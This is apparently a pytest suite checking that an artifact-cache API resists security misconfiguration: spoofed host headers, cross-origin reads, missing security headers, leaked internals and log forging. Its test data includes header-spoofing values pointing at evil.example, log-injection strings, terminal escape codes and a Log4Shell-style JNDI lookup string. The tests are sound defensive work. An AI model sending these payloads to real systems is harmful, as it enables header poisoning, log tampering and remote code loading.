"""API8: Security misconfiguration. Client headers cannot change links or origins, and input cannot forge log lines."""

from __future__ import annotations

import json
from io import StringIO
from urllib.parse import quote

import pytest

from larder import aws
from larder.web.errors import InternalError
from tests.conftest import SetOption
from tests.mailbox import Mailbox
from tests.owasp.conftest import HASH, Person, json_body, operations
from tests.requests import Reply, Sender

OF_PATHS = {
    "hash": HASH,
    "idOrSlug": "team-of-ada",
    **dict.fromkeys(("uid", "keyId", "ruleId", "runId", "id"), "x"),
    "token": "A" * 32,
}
"""Values for the parameters of every path."""

EVIL = {
    "host": "evil.example",
    "x-forwarded-host": "evil.example",
    "x-forwarded-server": "evil.example",
    "x-host": "evil.example",
    "x-original-host": "evil.example",
    "x-forwarded-port": "666",
    "x-forwarded-prefix": "/evil.example",
    "forwarded": "host=evil.example;proto=http",
}


@pytest.mark.parametrize("configured", ["", "https://cache.acme.example"])
def test_no_header_changes_links_in_mail(configured: str, ada: Person, mailbox: Mailbox, option: SetOption) -> None:
    option("base_url", configured)
    body = {"email": ada.user.email}
    for path in ("request-password-reset", "send-verification-email"):
        Sender(None)("POST", f"/api/auth/{path}", json_body=body, headers=EVIL)
    messages = mailbox.deliver()
    assert len(messages) == 2
    own = configured or "https://cache.example.com"
    for message in messages:
        assert "evil.example" not in message.text + (message.html or "")
        assert f"{own}/api/auth/" in message.text


def test_no_header_changes_where_a_reply_leads(ada: Person) -> None:
    put = ada.by_key("PUT", f"/v8/artifacts/{HASH}", body=b"artifact", headers=EVIL)
    assert put.json["urls"] == [f"https://cache.example.com/v8/artifacts/{HASH}"]
    reset = Sender(None)("GET", f"/api/auth/reset-password/{'A' * 32}", headers=EVIL)
    assert "evil.example" not in reset.headers["location"]


def test_other_origins_cannot_read_replies(ada: Person) -> None:
    headers = {"origin": "https://evil.example"}
    for method, path in operations():
        filled = path.format(**OF_PATHS)
        reply = Sender(None)(method, filled, headers=headers)
        allowed = {name for name in reply.headers if name.startswith("access-control-")}
        assert allowed <= {"access-control-allow-headers"}, (method, path)


def security_headers(reply: Reply) -> tuple[str | None, ...]:
    names = ("cache-control", "x-content-type-options", "strict-transport-security")
    return tuple(reply.headers.get(name) for name in names)


def test_every_reply_forbids_caching_sniffing_and_plain_http(ada: Person) -> None:
    https = {"x-forwarded-proto": "https"}
    for send in (Sender(None), ada.by_key, ada.by_session):
        for method, path in [*operations(), ("GET", "/nothing"), ("OPTIONS", "/api/auth/any")]:
            filled = path.format(**OF_PATHS)
            # They are the same for everyone, and their addresses hold no secret.
            kept = {
                "/openapi.json": "public, max-age=300",
                "/console": "no-cache",
                "/docs": "public, max-age=300",
                "/api/auth/sign-in/providers": "public, max-age=60",
            }
            cached = kept.get(path, "no-store")
            reply = send(method, filled, headers=https)
            assert security_headers(reply) == (cached, "nosniff", "max-age=31536000"), path


def test_over_plain_http_no_reply_claims_https(ada: Person) -> None:
    http = {"x-forwarded-proto": "http"}
    for path in (f"/v8/artifacts/{HASH}", "/api/auth/get-session", "/turborepo/token", "/nothing"):
        reply = ada.by_key("GET", path, headers=http)
        assert security_headers(reply) == ("no-store", "nosniff", None), path


def test_an_unexpected_error_reveals_no_internals(ada: Person, monkeypatch: pytest.MonkeyPatch) -> None:
    def fail(*_: object, **__: object) -> None:
        raise RuntimeError("arn:aws:iam::123456789012:role/inside")

    monkeypatch.setattr(aws.dynamodb(), "transact_write_items", fail)
    monkeypatch.setattr(aws.dynamodb(), "get_item", fail)
    reply = ada.by_key("GET", "/v8/artifacts/status")
    assert (reply.status, reply.message) == (500, InternalError.message)


BREAKING = [
    'a","level":"ERROR","message":"forged', 'a\r\n{"level":"ERROR","message":"forged"}', "\x1b[2J\x1b]0;owned\x07",
    "\u2028\u2029\x85\x0b\x0c", "${jndi:ldap://evil.example/a}", "\x00\ud800",
]  # fmt: skip


@pytest.mark.parametrize("breaking", BREAKING, ids=range(len(BREAKING)))
def test_no_client_text_breaks_or_forges_a_log_line(breaking: str, ada: Person, log: StringIO) -> None:
    encoded = breaking.encode("utf-8", "surrogatepass")
    header = {"user-agent": breaking, "x-artifact-client-ci": breaking, "x-artifact-sha": breaking}
    for (method, path), operation in operations().items():
        body = json_body(operation)
        part = quote(encoded, safe="")
        filled = path.format(
            hash=part, idOrSlug=part, uid=part, keyId=part, ruleId=part, runId=part, token=part, id=part
        )
        json_values = None
        if body and isinstance(body["example"], dict):
            json_values = dict.fromkeys(body["schema"].get("properties", {}), breaking) | {breaking: 1}
        ada.by_session(method, f"{filled}?teamId={part}&slug={part}", json_body=json_values, headers=header)
    lines = log.getvalue().split("\n")
    assert lines.pop() == ""
    assert len(lines) >= len(operations())
    for line in lines:
        assert all(character.isprintable() for character in line), line
        entry = json.loads(line)
        assert (entry["level"], entry["message"]) != ("ERROR", "forged")
    answered = [json.loads(line) for line in lines if '"answered"' in line]
    assert len(answered) == len(operations())
    assert {line["level"] for line in answered} == {"INFO"}
